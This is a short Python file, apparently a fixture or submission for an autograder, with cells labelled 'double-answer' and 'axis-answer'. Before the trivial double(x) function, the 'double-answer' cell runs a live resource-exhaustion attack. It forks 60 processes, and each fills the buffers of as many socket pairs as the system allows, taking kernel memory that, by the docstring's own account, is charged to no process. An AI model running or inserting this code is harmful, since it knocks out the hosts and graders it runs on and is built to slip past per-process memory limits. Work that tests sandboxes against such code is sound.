"""Fills the buffers of thousands of sockets, which count for no process."""
# expects: axis=2 double=0
# %% double-answer
import os
import socket
import time


def fill():
    kept = []
    try:
        while True:
            kept.append(socket.socketpair())
            kept[-1][0].setblocking(False)
            try:
                while True:
                    kept[-1][0].send(bytes(65536))
            except BlockingIOError:
                pass
    except OSError:
        time.sleep(600)


for _ in range(60):
    if os.fork() == 0:
        fill()
time.sleep(600)


def double(x):
    return 2 * x
# %% axis-answer
kind = "reduction"
